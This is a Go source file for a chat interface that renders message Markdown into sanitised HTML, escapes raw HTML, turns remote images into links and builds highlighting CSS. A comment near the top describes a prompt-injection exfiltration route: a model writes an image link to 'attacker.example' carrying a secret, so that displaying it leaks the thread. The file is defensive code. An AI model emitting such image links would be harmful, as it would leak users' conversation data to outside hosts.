package ui

import (
	"bytes"
	"html"
	"net/url"
	"regexp"
	"strings"
	"sync"

	chromahtml "github.com/alecthomas/chroma/v2/formatters/html"
	"github.com/alecthomas/chroma/v2/styles"
	"github.com/microcosm-cc/bluemonday"
	"github.com/yuin/goldmark"
	highlighting "github.com/yuin/goldmark-highlighting/v2"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer"
	"github.com/yuin/goldmark/util"
)

// markdown renders message text. Raw HTML in the source is shown as text
// (escapedHTML), never passed through, and the output goes through an
// allow-list sanitiser as well, so nothing a model or a user wrote can add
// script, event handlers or javascript: URLs to the page, while a reviewer
// still sees what was written.
// Code blocks are highlighted with CSS classes (the stylesheet is
// ChromaCSS), which keeps the CSP free of inline styles.
//
// An image from another site becomes a link (imageRenderer): a
// prompt-injected model could otherwise write
// ![x](https://attacker.example/?d=<secret>) and the browser would send the
// thread's contents there just by showing it. markdownRemote loads them,
// for servers whose admin opted in.
var (
	markdown       = newMarkdown(false)
	markdownRemote = newMarkdown(true)
)

func newMarkdown(remoteImages bool) goldmark.Markdown {
	return goldmark.New(
		goldmark.WithExtensions(
			extension.GFM,
			highlighting.NewHighlighting(
				highlighting.WithFormatOptions(chromahtml.WithClasses(true)),
				highlighting.WithGuessLanguage(false),
			),
		),
		goldmark.WithRendererOptions(renderer.WithNodeRenderers(
			util.Prioritized(escapedHTML{}, 100),
			util.Prioritized(imageRenderer{remote: remoteImages}, 100),
		)),
	)
}

// imageRenderer renders images from this site as <img>, and images from
// elsewhere as links unless remote.
type imageRenderer struct{ remote bool }

func (ir imageRenderer) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindImage, func(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		n := node.(*ast.Image)
		dest := string(n.Destination)
		alt := html.EscapeString(string(n.Text(source))) //nolint:staticcheck // the alt text, as goldmark's own renderer takes it
		if ir.remote || isOwnURL(dest) {
			_, _ = w.WriteString(`<img src="` + html.EscapeString(dest) + `" alt="` + alt + `">`)
			return ast.WalkSkipChildren, nil
		}
		label := "image"
		if alt != "" {
			label = "image: " + alt
		}
		_, _ = w.WriteString(`<a href="` + html.EscapeString(dest) + `" class="remote-image">[` + label + `] ` + html.EscapeString(dest) + `</a>`)
		return ast.WalkSkipChildren, nil
	})
}

// isOwnURL reports whether an image URL points at this site: a path
// (absolute or relative) with no scheme or host, which the browser loads
// from this origin.
func isOwnURL(dest string) bool {
	if strings.HasPrefix(dest, "//") || strings.ContainsAny(dest, "\\\t\n\r") {
		return false
	}
	u, err := url.Parse(dest)
	return err == nil && u.Scheme == "" && u.Host == "" && u.Opaque == ""
}

// escapedHTML renders raw HTML (inline and blocks) as escaped text.
type escapedHTML struct{}

func (escapedHTML) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindRawHTML, func(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
		if entering {
			segs := node.(*ast.RawHTML).Segments
			for i := 0; i < segs.Len(); i++ {
				seg := segs.At(i)
				_, _ = w.WriteString(html.EscapeString(string(seg.Value(source))))
			}
		}
		return ast.WalkSkipChildren, nil
	})
	reg.Register(ast.KindHTMLBlock, func(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		n := node.(*ast.HTMLBlock)
		_, _ = w.WriteString("<pre class=\"raw-html\"><code>")
		for i := 0; i < n.Lines().Len(); i++ {
			line := n.Lines().At(i)
			_, _ = w.WriteString(html.EscapeString(string(line.Value(source))))
		}
		if n.HasClosure() {
			_, _ = w.WriteString(html.EscapeString(string(n.ClosureLine.Value(source))))
		}
		_, _ = w.WriteString("</code></pre>\n")
		return ast.WalkSkipChildren, nil
	})
}

var sanitizer = func() *bluemonday.Policy {
	p := bluemonday.UGCPolicy()
	p.AllowAttrs("class").Matching(regexp.MustCompile(`^[a-zA-Z0-9 _-]+$`)).OnElements("span", "code", "pre", "div", "a")
	p.AddTargetBlankToFullyQualifiedLinks(true)
	p.RequireNoReferrerOnFullyQualifiedLinks(true)
	return p
}()

// renderMarkdown turns message text into sanitised HTML, with images from
// other sites as links.
func renderMarkdown(src string) string { return renderMarkdownWith(src, false) }

// renderMarkdownWith is renderMarkdown; remoteImages loads images from
// other sites as well (the admin's opt-in).
func renderMarkdownWith(src string, remoteImages bool) string {
	md := markdown
	if remoteImages {
		md = markdownRemote
	}
	var buf bytes.Buffer
	if err := md.Convert([]byte(src), &buf); err != nil {
		// Fall back to the escaped text: never the raw source.
		return "<pre>" + bluemonday.StrictPolicy().Sanitize(src) + "</pre>"
	}
	return sanitizer.Sanitize(buf.String())
}

// chromaCSS is the stylesheet for highlighted code: a light style, and a
// dark one for the dark theme (the system's, or the one the theme toggle
// picks). In the dark theme every token class the light style colours is
// first reset to the page's text colour, so a token the dark style leaves
// alone (punctuation, say) never keeps a dark-on-dark light colour.
var chromaCSS = sync.OnceValue(func() []byte {
	f := chromahtml.New(chromahtml.WithClasses(true))
	var light, dark bytes.Buffer
	_ = f.WriteCSS(&light, styles.Get("github"))
	_ = f.WriteCSS(&dark, styles.Get("github-dark"))
	var resets strings.Builder
	for _, m := range cssRule.FindAllStringSubmatch(light.String(), -1) {
		if sel := strings.TrimSpace(m[1]); strings.HasPrefix(sel, ".chroma .") && strings.Contains(m[2], "color:") {
			resets.WriteString(sel + " { color: var(--text); }\n")
		}
	}
	scoped := func(prefix string) string {
		return cssRule.ReplaceAllStringFunc(resets.String()+dark.String(), func(rule string) string {
			m := cssRule.FindStringSubmatch(rule)
			return prefix + strings.TrimSpace(m[1]) + " {" + m[2] + "}"
		})
	}
	var buf bytes.Buffer
	buf.Write(light.Bytes())
	buf.WriteString("@media (prefers-color-scheme: dark) {\n")
	buf.WriteString(scoped(":root:not([data-theme=light]) "))
	buf.WriteString("\n}\n")
	buf.WriteString(scoped(":root[data-theme=dark] "))
	return buf.Bytes()
})

// cssRule matches one rule of chroma's stylesheet (after its comment).
var cssRule = regexp.MustCompile(`([.][^{}/]*?)\{([^{}]*)\}`)
